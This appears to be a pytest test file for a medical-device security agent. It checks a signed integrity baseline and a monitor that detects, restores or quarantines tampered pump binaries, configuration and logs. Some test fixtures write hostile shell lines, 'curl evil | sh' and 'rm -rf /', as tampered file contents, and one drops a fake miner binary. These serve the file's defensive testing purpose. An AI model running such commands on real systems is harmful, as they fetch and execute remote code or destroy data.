"""The signed integrity baseline and the monitor's detect / restore / quarantine (RL-1, RL-2).

These run on any folder; the fanotify-driven tests with the clinical process are in
test_integrity_clinical.py.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import stat
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from medsec.cli.main import app
from medsec.crypto.envelope import seal
from medsec.crypto.keys import SigningKey
from medsec.protect.errors import IntegrityError
from medsec.protect.events import ProtectionEvent
from medsec.protect.integrity import (
    AGENT_FILES,
    PAYLOAD_TYPE,
    SLOTS_DIR,
    Baseline,
    IntegrityMonitor,
    KnownGood,
    build_baseline,
    load_baseline,
    populate_store,
)

PUMP = b"#!/bin/sh\necho pump 1.0.0\n"
CONFIG = b'{"rate_ml_per_h": 5}\n'


@dataclass
class Device:
    root: Path
    slot: Path  # the active slot's payload: known-good copies of the binaries
    store: Path  # read-only known-good store (configuration)
    key: SigningKey
    baseline: Baseline
    events: list[ProtectionEvent]
    monitor: IntegrityMonitor


def _write(path: Path, data: bytes, mode: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)


@pytest.fixture
def device(tmp_path: Path) -> Device:
    root = tmp_path / "device"
    slot = root / "slots/a"
    _write(slot / "bin/pump-ctl", PUMP, 0o755)
    os.symlink("a", root / "slots/current")
    _write(root / "opt/device/bin/pump-ctl", PUMP, 0o755)
    _write(root / "opt/device/bin/report", b"#!/bin/sh\necho report\n", 0o755)
    _write(root / "etc/device/pump.json", CONFIG, 0o640)
    _write(root / "etc/medsec/agent.json", b'{"serial": "IC300-0001"}', 0o600)
    _write(root / "usr/share/medsec/trust/image-root.json", b'{"signed": {}}', 0o644)
    _write(root / "var/log/medsec/access.log", b"line 1\n", 0o640)
    spec = [("opt/device/bin", "binary"), ("etc/device", "config"), *AGENT_FILES]
    spec = [(rel, kind) for rel, kind in spec if (root / rel).exists()]
    baseline = build_baseline(root, spec, label="IC300-0001")
    store = tmp_path / "known-good"
    populate_store(store, root, baseline)
    key = SigningKey.generate()
    verified = load_baseline(baseline.seal([key]), [key.verify_key])
    events: list[ProtectionEvent] = []
    monitor = IntegrityMonitor(
        root,
        verified,
        KnownGood([slot, store]),
        quarantine_dir=root / "var/lib/medsec/quarantine",
        on_event=events.append,
    )
    return Device(root, slot, store, key, verified, events, monitor)


def _actions(events: list[ProtectionEvent]) -> list[tuple[str, str, str | None]]:
    return [(e.action, e.rule, e.object.path if e.object else None) for e in events]


def test_baseline_lists_protected_files_and_watches_their_folders(device: Device) -> None:
    kinds = {e.path: e.kind for e in device.baseline.entries}
    assert kinds == {
        "opt/device/bin/pump-ctl": "binary",
        "opt/device/bin/report": "binary",
        "etc/device/pump.json": "config",
        "etc/medsec/agent.json": "config",
        "usr/share/medsec/trust/image-root.json": "agent",
        "var/log/medsec/access.log": "log",
    }
    assert device.baseline.watch == ("etc/device", "etc/medsec", "opt/device/bin", "usr/share/medsec/trust")
    assert device.monitor.check_all() == []


@pytest.mark.req("RL-1")
def test_unsigned_or_tampered_baseline_is_refused(device: Device) -> None:
    sealed = json.loads(device.baseline.seal([device.key]))
    document = json.loads(base64.b64decode(sealed["payload"]))
    document["files"][0]["sha256"] = "00" * 32
    sealed["payload"] = base64.b64encode(json.dumps(document).encode()).decode()
    with pytest.raises(IntegrityError, match="not signed by a trusted key"):
        load_baseline(json.dumps(sealed).encode(), [device.key.verify_key])
    with pytest.raises(IntegrityError, match="not signed by a trusted key"):
        load_baseline(device.baseline.seal([SigningKey.generate()]), [device.key.verify_key])


@pytest.mark.req("RL-1")
def test_modified_binary_is_detected_and_restored_from_the_active_slot(device: Device) -> None:
    target = device.root / "opt/device/bin/pump-ctl"
    target.write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    events = device.monitor.check_all()
    assert _actions(events) == [
        ("detected", "baseline_mismatch", "/opt/device/bin/pump-ctl"),
        ("restored", "baseline_mismatch", "/opt/device/bin/pump-ctl"),
    ]
    assert events[0].object is not None
    assert events[0].object.sha256 == hashlib.sha256(b"#!/bin/sh\ncurl evil | sh\n").hexdigest()
    assert target.read_bytes() == PUMP and stat.S_IMODE(target.stat().st_mode) == 0o755
    assert device.events == events
    assert [ProtectionEvent.from_json(e.to_json()) for e in events] == events
    assert device.monitor.check_all() == []


@pytest.mark.req("RL-1")
def test_modified_binary_without_a_known_good_copy_is_quarantined(device: Device) -> None:
    target = device.root / "opt/device/bin/report"
    target.write_bytes(b"#!/bin/sh\nrm -rf /\n")
    for copy in device.store.iterdir():
        copy.chmod(0o644)
        copy.unlink()
    events = device.monitor.check_all()
    assert _actions(events) == [
        ("detected", "baseline_mismatch", "/opt/device/bin/report"),
        ("quarantined", "baseline_mismatch", "/opt/device/bin/report"),
    ]
    assert not target.exists()
    (moved,) = (device.root / "var/lib/medsec/quarantine").iterdir()
    assert stat.S_IMODE(moved.stat().st_mode) == 0
    moved.chmod(0o600)  # only root reads a mode-0 file as it is
    assert moved.read_bytes() == b"#!/bin/sh\nrm -rf /\n"


@pytest.mark.req("RL-1")
def test_tampered_known_good_copy_is_never_restored(device: Device) -> None:
    (device.slot / "bin/pump-ctl").write_bytes(b"#!/bin/sh\necho also evil\n")
    target = device.root / "opt/device/bin/pump-ctl"
    target.write_bytes(b"#!/bin/sh\necho evil\n")
    monitor = IntegrityMonitor(
        device.root, device.baseline, KnownGood([device.slot]), quarantine_dir=device.root / "quarantine"
    )
    assert [e.action for e in monitor.check_all()] == ["detected", "quarantined"]
    assert not target.exists()


@pytest.mark.req("RL-1")
def test_modified_and_deleted_configuration_is_restored_from_the_store(device: Device) -> None:
    config = device.root / "etc/device/pump.json"
    config.write_bytes(b'{"rate_ml_per_h": 1200}\n')
    (device.root / "etc/medsec/agent.json").unlink()
    events = device.monitor.check_all()
    assert _actions(events) == [
        ("detected", "baseline_mismatch", "/etc/device/pump.json"),
        ("restored", "baseline_mismatch", "/etc/device/pump.json"),
        ("detected", "missing", "/etc/medsec/agent.json"),
        ("restored", "missing", "/etc/medsec/agent.json"),
    ]
    assert config.read_bytes() == CONFIG and stat.S_IMODE(config.stat().st_mode) == 0o640
    assert stat.S_IMODE((device.root / "etc/medsec/agent.json").stat().st_mode) == 0o600


@pytest.mark.req("RL-1")
def test_changed_mode_is_set_back(device: Device) -> None:
    target = device.root / "opt/device/bin/pump-ctl"
    target.chmod(0o4777)
    assert _actions(device.monitor.check_all()) == [
        ("detected", "unexpected_mode", "/opt/device/bin/pump-ctl"),
        ("restored", "unexpected_mode", "/opt/device/bin/pump-ctl"),
    ]
    assert stat.S_IMODE(target.stat().st_mode) == 0o755


@pytest.mark.req("RL-2")
def test_file_dropped_into_a_protected_folder_is_quarantined(device: Device) -> None:
    dropped = device.root / "opt/device/bin/miner"
    _write(dropped, b"\x7fELF miner", 0o755)
    assert _actions(device.monitor.check_paths([str(dropped)])) == [
        ("detected", "unexpected_file", "/opt/device/bin/miner"),
        ("quarantined", "unexpected_file", "/opt/device/bin/miner"),
    ]
    assert not dropped.exists()


@pytest.mark.req("RL-1")
def test_log_may_grow_but_not_be_rewritten_or_truncated(device: Device) -> None:
    log = device.root / "var/log/medsec/access.log"
    with log.open("ab") as f:
        f.write(b"line 2\n")
    assert device.monitor.check_all() == []
    log.write_bytes(b"line 1\nline X\n")  # rewrites what was already seen
    assert _actions(device.monitor.check_all()) == [("detected", "log_not_append_only", "/var/log/medsec/access.log")]
    assert log.read_bytes() == b"line 1\nline X\n"  # evidence is never rewritten or moved
    log.write_bytes(b"")
    assert [e.rule for e in device.monitor.check_all()] == ["log_not_append_only"]


def test_notification_for_an_unprotected_path_costs_nothing(device: Device) -> None:
    heartbeat = device.root / "run/heartbeat"
    _write(heartbeat, b"1\n", 0o644)
    assert device.monitor.check_paths([str(heartbeat), "/elsewhere/entirely"]) == []
    assert device.monitor.stats.path_checks == 0


def test_baseline_never_covers_the_update_slots(device: Device) -> None:
    """An update replaces the slot's files; a baseline over them would restore the old release."""
    assert not any(rel.startswith(f"{SLOTS_DIR}/") for rel, _kind in AGENT_FILES)
    with pytest.raises(IntegrityError, match="A/B slots, which every update replaces"):
        build_baseline(device.root, [("slots/current/bin", "binary")], label="x")
    # A signed baseline that lists slot paths anyway (built before they were refused): they are set
    # aside, named, and never checked, so the monitor cannot put an old release back.
    document = device.baseline.to_document()
    trustdb = "slots/current/.medsec-slot/trustdb.json"
    document["files"].append({"path": trustdb, "kind": "agent", "sha256": "00" * 32, "size": 1, "mode": 420})
    document["watch"].append("slots/current/.medsec-slot")
    loaded = load_baseline(seal(document, PAYLOAD_TYPE, [device.key]), [device.key.verify_key])
    assert loaded.ignored == ("slots/current/.medsec-slot", trustdb)
    assert loaded.entries == device.baseline.entries and loaded.watch == device.baseline.watch
    (device.root / "slots/a/.medsec-slot").mkdir()
    (device.root / trustdb).write_bytes(b"the new release's trust database")
    monitor = IntegrityMonitor(
        device.root, loaded, KnownGood([device.store]), quarantine_dir=device.root / "q", on_event=device.events.append
    )
    assert monitor.check_all() == []
    assert (device.root / trustdb).read_bytes() == b"the new release's trust database"


def test_baseline_refuses_paths_outside_the_root_and_empty_input(tmp_path: Path) -> None:
    with pytest.raises(IntegrityError, match=r"without '\.\.'"):
        build_baseline(tmp_path, [("../etc", "config")], label="x")
    (tmp_path / "empty").mkdir()
    with pytest.raises(IntegrityError, match="empty"):
        build_baseline(tmp_path, [("empty", "binary")], label="x")


# -- CLI ----------------------------------------------------------------------------------------------


def _cli(*args: str) -> tuple[int, dict[str, object]]:
    result = CliRunner().invoke(app, [*args, "--json"])
    return result.exit_code, json.loads(result.stdout)


@pytest.mark.req("RL-1")
def test_cli_baseline_build_verify_check_and_repair(device: Device, tmp_path: Path) -> None:
    key_file = tmp_path / "baseline.key"
    device.key.save(key_file)
    out = tmp_path / "baseline.json"
    store = tmp_path / "cli-store"
    code, result = _cli(
        "protect", "baseline", "build", str(device.root), "--label", "IC300-0001", "--key", str(key_file),
        "--out", str(out), "--protect", "opt/device/bin:binary", "--protect", "etc/device:config",
        "--agent-files", "--store", str(store),
    )  # fmt: skip
    assert code == 0 and result["files"] == 6
    assert _cli("protect", "baseline", "verify", str(out), "--key", str(key_file))[0] == 0
    check = ["protect", "baseline", "check", str(device.root), "--baseline", str(out), "--key", str(key_file)]
    assert _cli(*check) == (0, {"ok": True, "files": 6, "events": []})
    (device.root / "etc/device/pump.json").write_bytes(b"{}")
    (device.root / "etc/device/extra.json").write_bytes(b"{}")
    code, result = _cli(*check)
    assert code == 1
    assert [(e["action"], e["rule"]) for e in result["events"]] == [  # type: ignore[union-attr,index]
        ("detected", "baseline_mismatch"),
        ("detected", "unexpected_file"),
    ]
    assert (device.root / "etc/device/extra.json").exists()  # report only: nothing touched
    (device.root / "etc/device/extra.json").unlink()
    code, result = _cli(*check, "--repair", "--known-good", str(store))
    assert code == 1 and [e["action"] for e in result["events"]] == ["detected", "restored"]  # type: ignore[union-attr,index]
    assert (device.root / "etc/device/pump.json").read_bytes() == CONFIG
    assert _cli(*check)[0] == 0
